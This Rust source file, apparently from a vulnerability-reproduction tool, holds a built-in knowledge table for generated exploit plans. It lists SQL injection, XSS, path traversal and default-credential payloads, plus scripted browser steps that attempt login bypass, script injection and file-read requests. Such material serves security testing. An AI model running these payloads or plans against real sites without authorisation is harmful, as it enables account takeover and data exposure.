//! Category knowledge used to ground generated exploit plans.
//!
//! The built-in table is assembled once; an optional YAML file can replace entries
//! per category at startup. The resulting `KnowledgeBase` is immutable.

use std::collections::HashMap;
use std::path::Path;
use std::sync::LazyLock;

use serde::{Deserialize, Serialize};
use tracing::{debug, info};

use crate::errors::ReproError;
use crate::models::Category;

/// Test points, payloads and a worked plan fragment for one category.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct CategoryKnowledge {
    #[serde(default)]
    pub context: String,
    #[serde(default)]
    pub payloads: Vec<String>,
    #[serde(default)]
    pub example: String,
}

impl CategoryKnowledge {
    pub fn is_empty(&self) -> bool {
        self.context.is_empty() && self.payloads.is_empty() && self.example.is_empty()
    }
}

static EMPTY: LazyLock<CategoryKnowledge> = LazyLock::new(CategoryKnowledge::default);

#[derive(Debug, Clone)]
pub struct KnowledgeBase {
    entries: HashMap<Category, CategoryKnowledge>,
}

impl KnowledgeBase {
    pub fn builtin() -> Self {
        Self { entries: BUILTIN.clone() }
    }

    pub fn empty() -> Self {
        Self { entries: HashMap::new() }
    }

    /// Built-in knowledge with entries from a YAML file (category name → entry) layered on top.
    pub async fn load_with_overrides(path: &Path) -> Result<Self, ReproError> {
        let content = tokio::fs::read_to_string(path).await.map_err(|e| {
            ReproError::Config(format!("Failed to read knowledge file {}: {}", path.display(), e))
        })?;
        let overrides: HashMap<String, CategoryKnowledge> = serde_yaml::from_str(&content)?;

        let mut base = Self::builtin();
        for (name, entry) in overrides {
            let category: Category = name.parse().map_err(ReproError::Config)?;
            debug!(category = %category, "Knowledge override applied");
            base.entries.insert(category, entry);
        }
        info!(path = %path.display(), categories = base.entries.len(), "Knowledge base loaded");
        Ok(base)
    }

    /// Knowledge for `category`, or an empty entry when none is registered.
    pub fn get(&self, category: Category) -> &CategoryKnowledge {
        self.entries.get(&category).unwrap_or(&EMPTY)
    }

    pub fn payloads(&self, category: Category) -> &[String] {
        &self.get(category).payloads
    }
}

impl Default for KnowledgeBase {
    fn default() -> Self {
        Self::builtin()
    }
}

static BUILTIN: LazyLock<HashMap<Category, CategoryKnowledge>> = LazyLock::new(|| {
    let mut m = HashMap::new();
    m.insert(
        Category::SqlInjection,
        CategoryKnowledge {
            context: "Common SQL injection test points:\n\
                      - Login forms: email/username fields\n\
                      - Search functionality: query parameters\n\
                      - URL parameters: especially IDs and filters\n\
                      - User registration forms\n\
                      - Profile update forms"
                .to_string(),
            payloads: strings(&[
                "' OR '1'='1",
                "admin' --",
                "' UNION SELECT NULL--",
                "') OR ('1'='1",
                "' OR 1=1;--",
            ]),
            example: r#"{"op": "navigate", "path": "/login"},
{"op": "append", "into": "steps_to_reproduce", "text": "1. Navigate to login page"},
{"op": "screenshot", "label": "before_login", "into": "screenshots"},
{"op": "for_each", "values": ["' OR '1'='1", "admin' --"], "as": "payload", "stop_on_success": true, "do": [
  {"op": "append", "into": "steps_to_reproduce", "text": "2. Try payload: {{payload}}"},
  {"op": "fill", "selector": "input[name=\"email\"]", "value": "{{payload}}"},
  {"op": "fill", "selector": "input[name=\"password\"]", "value": "any"},
  {"op": "click", "selector": "button[type=\"submit\"]"},
  {"op": "wait_for_load"},
  {"op": "check", "condition": {"url_contains": "/profile"}, "then": [
    {"op": "set_success"},
    {"op": "append", "into": "evidence", "text": "Login bypass successful with: {{payload}}"},
    {"op": "screenshot", "label": "success_state", "into": "screenshots"}
  ]}
]}"#
            .to_string(),
        },
    );
    m.insert(
        Category::Xss,
        CategoryKnowledge {
            context: "Common XSS test points:\n\
                      - Search forms\n\
                      - Comment fields\n\
                      - User profile fields\n\
                      - URL parameters\n\
                      - File upload names\n\
                      A JavaScript dialog opening after submission proves script execution."
                .to_string(),
            payloads: strings(&[
                "<script>alert(1)</script>",
                "<img src=x onerror=alert(1)>",
                "<svg onload=alert(1)>",
                "<iframe src=\"javascript:alert(1)\">",
            ]),
            example: r#"{"op": "navigate", "path": "/search"},
{"op": "for_each", "values": ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>"], "as": "payload", "stop_on_success": true, "do": [
  {"op": "append", "into": "steps_to_reproduce", "text": "1. Testing search with: {{payload}}"},
  {"op": "fill", "selector": "input[type=\"search\"]", "value": "{{payload}}"},
  {"op": "screenshot", "label": "before_payload", "into": "screenshots"},
  {"op": "press", "key": "Enter"},
  {"op": "wait_for_load"},
  {"op": "screenshot", "label": "after_payload", "into": "screenshots"},
  {"op": "check", "condition": {"dialog_seen": ""}, "then": [
    {"op": "set_success"},
    {"op": "append", "into": "evidence", "text": "XSS successful with: {{payload}}"}
  ]}
]}"#
            .to_string(),
        },
    );
    m.insert(
        Category::BrokenAuth,
        CategoryKnowledge {
            context: "Common authentication weaknesses:\n\
                      - Default or weak credentials on login and admin pages\n\
                      - Missing lockout after repeated failed logins\n\
                      - Password reset flows answerable by guessing\n\
                      - Session tokens that survive logout"
                .to_string(),
            payloads: strings(&["admin:admin", "admin:admin123", "admin:password", "test:test"]),
            example: r#"{"op": "navigate", "path": "/login"},
{"op": "append", "into": "steps_to_reproduce", "text": "1. Open the login page"},
{"op": "fill", "selector": "input[name=\"email\"]", "value": "admin@example.com"},
{"op": "fill", "selector": "input[name=\"password\"]", "value": "admin123"},
{"op": "click", "selector": "button[type=\"submit\"]"},
{"op": "wait_for_load"},
{"op": "screenshot", "label": "after_login", "into": "screenshots"},
{"op": "check", "condition": {"content_contains": "Logout"}, "then": [
  {"op": "set_success"},
  {"op": "append", "into": "evidence", "text": "Logged in with default credentials"}
]}"#
            .to_string(),
        },
    );
    m.insert(
        Category::PathTraversal,
        CategoryKnowledge {
            context: "Common path traversal test points:\n\
                      - File download endpoints taking a filename\n\
                      - Static file directories (ftp, uploads, assets)\n\
                      - Template or language selectors\n\
                      Encoded variants (%2e%2e%2f, %252e) and null bytes (%00) bypass naive filters."
                .to_string(),
            payloads: strings(&["../../etc/passwd", "..%2f..%2fetc%2fpasswd", "file.md%2500.pdf"]),
            example: r#"{"op": "navigate", "path": "/ftp/package.json.bak%2500.md"},
{"op": "append", "into": "steps_to_reproduce", "text": "1. Request a blocked file with a null-byte suffix"},
{"op": "screenshot", "label": "traversal_response", "into": "screenshots"},
{"op": "check", "condition": {"status_is": 200}, "then": [
  {"op": "set_success"},
  {"op": "append", "into": "evidence", "text": "Blocked file served through null-byte bypass"}
]}"#
            .to_string(),
        },
    );
    m.insert(
        Category::MissingSecurityHeaders,
        CategoryKnowledge {
            context: "Headers expected on HTML responses:\n\
                      - Content-Security-Policy\n\
                      - X-Frame-Options or CSP frame-ancestors\n\
                      - Strict-Transport-Security (HTTPS only)\n\
                      - X-Content-Type-Options: nosniff"
                .to_string(),
            payloads: strings(&[
                "content-security-policy",
                "x-frame-options",
                "x-content-type-options",
                "strict-transport-security",
            ]),
            example: r#"{"op": "navigate", "path": "/"},
{"op": "append", "into": "steps_to_reproduce", "text": "1. Load the landing page and inspect response headers"},
{"op": "screenshot", "label": "landing", "into": "screenshots"},
{"op": "check", "condition": {"header_missing": "content-security-policy"}, "then": [
  {"op": "set_success"},
  {"op": "append", "into": "evidence", "text": "Response lacks Content-Security-Policy"}
]}"#
            .to_string(),
        },
    );
    m.insert(
        Category::SecurityMisconfig,
        CategoryKnowledge {
            context: "Common misconfigurations visible from a browser:\n\
                      - Directory listings (/ftp, /backup, /.git)\n\
                      - Verbose error pages with stack traces\n\
                      - Exposed metrics or admin consoles"
                .to_string(),
            payloads: strings(&["/ftp", "/metrics", "/.git/HEAD", "/api/does-not-exist"]),
            example: r#"{"op": "navigate", "path": "/ftp"},
{"op": "append", "into": "steps_to_reproduce", "text": "1. Browse to /ftp"},
{"op": "screenshot", "label": "ftp_listing", "into": "screenshots"},
{"op": "check", "condition": {"content_contains": "listing directory"}, "then": [
  {"op": "set_success"},
  {"op": "append", "into": "evidence", "text": "Directory listing enabled on /ftp"}
]}"#
            .to_string(),
        },
    );
    m
});

fn strings(items: &[&str]) -> Vec<String> {
    items.iter().map(|s| s.to_string()).collect()
}
